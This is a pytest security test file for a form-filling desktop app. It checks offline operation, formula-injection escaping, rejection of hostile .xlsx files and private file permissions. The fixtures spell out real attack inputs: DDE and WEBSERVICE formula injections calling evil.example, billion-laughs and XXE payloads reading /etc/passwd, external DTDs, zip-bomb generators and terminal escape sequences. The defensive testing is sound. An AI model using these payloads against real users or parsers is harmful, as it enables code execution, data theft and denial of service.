"""7. Security: no network, no formula injection, hostile .xlsx files, private data folder.

* No network: socket.socket / create_connection / getaddrinfo replaced by functions that fail the
  test, then the whole journey (flow_worker.full_flow); and the same journey in a child process
  with an audit hook installed before the app is imported.
* Formula injection: user text starting with = + - @ (and tab, #N/A…) written through xlsxkit,
  the .xlsx template writer and export_draft is a string cell (t="s"/inlineStr), never <f>;
  formulas in an imported .xlsx give their cached value (or nothing), never an evaluation.
* Hostile .xlsx: entity bombs (billion laughs) in sharedStrings.xml / workbook.xml, external
  entities (XXE), an external DTD, a zip bomb, too many members, not-a-zip, legacy OLE: refused by
  templates.read_filled with a Chinese TemplateError, store untouched.
* Permissions (POSIX): a new data folder is 0700, the database and its -wal/-shm 0600, snapshots and
  backups private too.
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import socket
import stat
import struct
import subprocess
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flow_worker import full_flow
from fuzz_strategies import FUZZ, any_text, examples
from rel_support import (HERE, PYTHON, bump, child_env, has_cjk, logical_state, minimal_xlsx, record, rewrite_zip,
                         zip_member, zip_names)

from clusterdesk.model.form import default_catalog
from clusterdesk.store import Store
from clusterdesk.templates import TemplateError, import_file, read_filled, write_template

FORM = default_catalog().get("cq-2024-application")
POSIX = os.name == "posix"
RISKY = ["=1+1", "+86 138 0000 0000", "-5", "-2+3", "@SUM(A1:A3)", '=HYPERLINK("http://evil.example","点我")',
         "=cmd|' /C calc'!A0", "\t=1+1", "#N/A", "=1+1\n第二行", "＝1+1", "+", "-", "@", "=", "=WEBSERVICE(\"http://x\")"]


# ----------------------------------------------------------------------------- no network

@pytest.fixture()
def no_network(monkeypatch):
    # ssl subclasses socket.socket when first imported (SQLAlchemy imports it through asyncio, now
    # at the store's first write): imported before socket.socket is replaced by a function below.
    import asyncio  # noqa: F401
    import ssl  # noqa: F401

    attempts: list[str] = []

    def refuse(name):
        def fail(*args, **kwargs):
            attempts.append(f"{name}{args!r}"[:200])
            raise AssertionError(f"network use during an offline feature: {name}{args!r}")
        return fail

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname", "gethostbyname_ex",
                 "create_server"):
        monkeypatch.setattr(socket, name, refuse(f"socket.{name}"))
    yield attempts
    assert attempts == [], attempts


def test_full_journey_without_network_in_process(tmp_path, no_network):
    steps = full_flow(tmp_path / "work")
    assert steps["fields_set"] > 100 and steps["evidence_added"] > 10
    assert steps["xlsx_round_trip_equal"] == 1
    if "package_round_trip_equal" in steps:
        assert steps["package_round_trip_equal"] == 1
    record("security", journey_steps=steps,
           export_draft_run=importlib.util.find_spec("clusterdesk.export.api") is not None,
           packages_run=importlib.util.find_spec("clusterdesk.packages") is not None)


def test_full_journey_without_network_audit_hook(tmp_path):
    proc = subprocess.run([PYTHON, str(HERE / "flow_worker.py"), str(tmp_path / "work")], capture_output=True,
                          env=child_env(), timeout=300)
    assert proc.returncode == 0, proc.stderr.decode("utf-8", "replace")[-3000:]
    result = json.loads(proc.stdout.decode("utf-8").strip().splitlines()[-1])
    assert result["network"] == [], result["network"]
    assert result["steps"]["fields_set"] > 100


# ----------------------------------------------------------------------------- formula injection

def _sheet_xml(path: Path) -> dict[str, str]:
    return {n: zip_member(path, n).decode("utf-8") for n in zip_names(path) if n.startswith("xl/worksheets/")}


def _assert_no_formulas(path: Path) -> None:
    for name, xml in _sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, f"formula element in {name}"


def _cells_by_value(path: Path) -> dict[str, list]:
    from openpyxl import load_workbook

    wb = load_workbook(path)  # normal mode: data_type as stored
    found: dict[str, list] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    found.setdefault(c.value, []).append(c)
    return found


def test_xlsxkit_writes_risky_text_as_strings(tmp_path):
    from clusterdesk.textsafe import clean_text
    from clusterdesk.export.xlsxkit import SheetSpec, write_workbook

    out = tmp_path / "清单.xlsx"
    write_workbook(out, [SheetSpec("清单", ["常规列", "文本列", "数字列"], [[t, t, t] for t in RISKY],
                                   formats=["general", "text", "number"])])
    _assert_no_formulas(out)
    cells = _cells_by_value(out)
    for t in RISKY:
        want = clean_text(t)
        assert want in cells, f"{t!r} missing"
        assert all(c.data_type == "s" for c in cells[want]), (t, [c.data_type for c in cells[want]])
    bump("security", "formula_texts_checked", len(RISKY))


@pytest.mark.hypothesis  # selected by `make fuzz`
def test_xlsxkit_any_risky_text_property(tmp_path_factory):
    from clusterdesk.textsafe import clean_text
    from clusterdesk.export.xlsxkit import SheetSpec, read_workbook_values, write_workbook

    folder = tmp_path_factory.mktemp("inj")
    risky_text = st.builds(lambda p, t: p + t, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝"]), any_text(30))

    @settings(FUZZ, max_examples=examples(150))
    @given(texts=st.lists(risky_text, min_size=1, max_size=5))
    def run(texts):
        bump("hypothesis", "xlsxkit.formula_injection")
        out = folder / "p.xlsx"
        write_workbook(out, [SheetSpec("表", ["a"], [[t] for t in texts])])
        _assert_no_formulas(out)
        back = [r[0] if r else None for r in read_workbook_values(out)["表"][1:]]
        assert back == [clean_text(t) or None for t in texts]

    run()


def test_template_writer_keeps_risky_text_as_strings(tmp_path):
    from clusterdesk.templates import _write_xlsx_template

    answers = {"cover.cluster_name": "=1+1", "cover.contact": "+86 138 0000 0000", "cover.district": "@SUM(A1)",
               "basic.authority_contact": "-5",
               "innovation.platforms_national_names": [{"name": "=HYPERLINK(\"http://evil\",\"x\")"},
                                                       {"name": "-2+3"}]}
    out = tmp_path / "已填.xlsx"
    _write_xlsx_template(FORM, out, answers)
    _assert_no_formulas(out)
    cells = _cells_by_value(out)
    for text in ["=1+1", "+86 138 0000 0000", "@SUM(A1)", "-5", "=HYPERLINK(\"http://evil\",\"x\")", "-2+3"]:
        assert text in cells and all(c.data_type == "s" for c in cells[text]), text
    # and they come back as the same text
    filled = read_filled(out)
    assert filled.answers["cover.cluster_name"] == "=1+1"
    assert filled.answers["innovation.platforms_national_names"][0]["name"] == "=HYPERLINK(\"http://evil\",\"x\")"


@pytest.mark.skipif(importlib.util.find_spec("clusterdesk.export.api") is None, reason="export_draft not built yet")
def test_export_draft_keeps_risky_text_as_strings(tmp_path):
    from clusterdesk.export.api import export_draft

    with Store.open(tmp_path / "db.sqlite3") as store:
        draft_id = import_file(store, Path(__file__).resolve().parents[2] / "demo" / "cq-2024-application.json")
        store.set_answers(draft_id, {"cover.operator": "=1+1", "basic.authority_contact": "@SUM(A1)",
                                     "innovation.platforms_national_names": [{"name": "=cmd|' /C calc'!A0"}]})
        out = tmp_path / "out"
        out.mkdir()
        files = export_draft(store, draft_id, out, pdf=False, draft_copy=True).files
    xlsx = [f for f in files if f.suffix == ".xlsx"]
    assert xlsx
    for f in xlsx:
        _assert_no_formulas(f)
        cells = _cells_by_value(f)
        for text in ["=1+1", "@SUM(A1)", "=cmd|' /C calc'!A0"]:
            if text in cells:
                assert all(c.data_type == "s" for c in cells[text]), text
        assert any(t in cells for t in ["=1+1", "@SUM(A1)"]), "the injected answers are not in the lists workbook"


def _template_with_cells(rows: list[list]) -> bytes:
    from clusterdesk.templates import XLSX_HEADER

    main = [list(XLSX_HEADER)] + [[key] + [None] * 11 + [value] for key, value in rows]
    return minimal_xlsx(main, [["form", FORM.id], ["version", 1]])


def test_imported_formulas_are_never_evaluated(tmp_path):
    from clusterdesk.export.xlsxkit import read_workbook_values

    data = _template_with_cells([
        ("basic.area", ("=", "1+1", 999)),                              # cached value wins, never 2
        ("cover.cluster_name", ("=", 'HYPERLINK("http://evil","点这里")', "点这里")),
        ("cover.district", ("=", "WEBSERVICE(\"http://evil/steal\")", None)),  # never calculated: empty
        ("cover.operator", ("=", "A1", None)),
    ])
    path = tmp_path / "公式.xlsx"
    path.write_bytes(data)
    values = read_workbook_values(path)["填报"]
    assert not any(isinstance(v, str) and v.startswith("=") for row in values for v in row)
    filled = read_filled(path)
    assert filled.answers.get("basic.area") == "999.00"
    assert filled.answers.get("cover.cluster_name") == "点这里"
    assert "cover.district" not in filled.answers and "cover.operator" not in filled.answers


# ----------------------------------------------------------------------------- hostile .xlsx files

LAUGHS = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
          + "]>\n")


def _real_template(tmp_path: Path) -> Path:
    p = tmp_path / "真模板.xlsx"
    write_template(FORM, p)
    return p


def _forge_uncompressed_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the central-directory entry of ``member`` to claim ``size`` uncompressed bytes."""
    buf = bytearray(data)
    eocd = buf.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack("<I", buf[eocd + 16:eocd + 20])[0]
    pos = cd_offset
    while buf[pos:pos + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack("<HHH", buf[pos + 28:pos + 34])
        name = bytes(buf[pos + 46:pos + 46 + n]).decode("utf-8", "replace")
        if name == member:
            buf[pos + 24:pos + 28] = struct.pack("<I", size)
        pos += 46 + n + m + k
    return bytes(buf)


def hostile_files(tmp_path: Path) -> dict[str, bytes]:
    real = _real_template(tmp_path)
    sst = zip_member(real, "xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in zip_names(real) else None
    wb = zip_member(real, "xl/workbook.xml").decode("utf-8")
    sheet = zip_member(real, "xl/worksheets/sheet1.xml").decode("utf-8")

    def strip_decl(xml: str) -> str:
        return xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml

    def variant(name: str, member: str, new: str) -> bytes:
        rewrite_zip(real, tmp_path / name, {member: new.encode("utf-8")},
                    add=None if member in zip_names(real) else {member: new.encode("utf-8")})
        return (tmp_path / name).read_bytes()

    out: dict[str, bytes] = {}
    sst_body = strip_decl(sst) if sst else ('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                                            'count="1" uniqueCount="1"><si><t>x</t></si></sst>')
    out["billion_laughs_sharedStrings"] = variant("a.xlsx", "xl/sharedStrings.xml",
                                                  LAUGHS + sst_body.replace("<si>", "<si><t>&lol9;</t></si><si>", 1))
    out["billion_laughs_workbook"] = variant("b.xlsx", "xl/workbook.xml",
                                             LAUGHS + strip_decl(wb).replace('name="填报"', 'name="&lol9;"'))
    out["xxe_file"] = variant("c.xlsx", "xl/worksheets/sheet1.xml",
                              '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                              + strip_decl(sheet).replace("<sheetData>", "<sheetData><!-- &xxe; -->", 1))
    out["external_dtd"] = variant("d.xlsx", "xl/workbook.xml",
                                  '<?xml version="1.0"?>\n<!DOCTYPE workbook SYSTEM "http://evil.example/x.dtd">\n'
                                  + strip_decl(wb))
    out["parameter_entity"] = variant("e.xlsx", "[Content_Types].xml",
                                      '<?xml version="1.0"?>\n<!DOCTYPE t [<!ENTITY % p SYSTEM '
                                      '"http://evil.example/p.dtd"> %p;]>\n'
                                      + strip_decl(zip_member(real, "[Content_Types].xml").decode("utf-8")))
    out["zip_bomb_declared"] = _forge_uncompressed_size(real.read_bytes(), "xl/worksheets/sheet1.xml", 0xFFFFFFF0)
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        for i in range(10001):
            zf.writestr(f"x/{i}.xml", "<a/>")
    out["too_many_members"] = many.getvalue()
    out["not_a_zip"] = b"PK\x03\x04" + os.urandom(2000)
    out["random_bytes"] = os.urandom(4096)
    out["legacy_ole"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4000)
    out["empty"] = b""
    return out


def test_hostile_xlsx_is_refused(tmp_path, no_network):
    files = hostile_files(tmp_path)
    with Store.open(tmp_path / "db" / "clusterdesk.sqlite3") as store:
        before = logical_state(store.path)
        for name, data in files.items():
            path = tmp_path / f"{name}.xlsx"
            path.write_bytes(data)
            with pytest.raises(TemplateError) as err:
                import_file(store, path)
            assert err.value.problems and all(has_cjk(p) for p in err.value.problems), (name, err.value.problems)
            assert logical_state(store.path) == before, name
            bump("security", "hostile_xlsx_rejected")
    record("security", hostile_xlsx_cases=sorted(files))


@pytest.mark.slow
def test_real_zip_bomb_is_refused(tmp_path):
    """A member that really inflates to 310 MB (stored as ~300 KB)."""
    real = _real_template(tmp_path)
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(real) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/media/zeros.bin", "w", force_zip64=True) as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(310):
                fh.write(chunk)
    with pytest.raises(TemplateError) as err:
        read_filled(bomb)
    assert has_cjk(str(err.value))
    bump("security", "hostile_xlsx_rejected")


# ----------------------------------------------------------------------------- private data folder

@pytest.mark.skipif(not POSIX, reason="POSIX permissions")
def test_new_data_folder_is_private(tmp_path, umask022):
    data = tmp_path / "home" / ".local" / "share" / "ClusterDesk"
    db = data / "clusterdesk.sqlite3"
    with Store.open(db) as store:
        d = store.create_draft(FORM.id, FORM.version, "x")
        store.set_answer(d.id, "basic.area", "1.00")
        assert stat.S_IMODE(db.stat().st_mode) == 0o600
        for side in ("-wal", "-shm"):
            p = Path(str(db) + side)
            if p.exists():
                assert stat.S_IMODE(p.stat().st_mode) == 0o600, side
        snap = store.snapshot()
        backup = store.backup(tmp_path / "backup.sqlite3")
    for folder in (data, data.parent, data.parent.parent, data.parent.parent.parent):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    assert stat.S_IMODE(snap.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(snap.stat().st_mode) == 0o600
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    record("security", permissions_checked="data folder 0700, db/-wal/-shm 0600, snapshots 0700/0600, backup 0600")


# ----------------------------------------------------------------------------- terminal output

def test_cli_never_prints_control_characters_from_a_file(tmp_path):
    import contextlib
    import re

    from clusterdesk import cli

    path = tmp_path / "恶意.json"
    path.write_text(json.dumps({"form": FORM.id, "version": 1,
                                "answers": {"\x1b]0;pwned\x07\x1b[2J": 1, "basic.industry_type": "\x1b[31m红"}}),
                    encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(["--db", str(tmp_path / "db.sqlite3"), "import", str(path)])
    assert code == 2
    text = out.getvalue() + err.getvalue()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", text), repr(text)
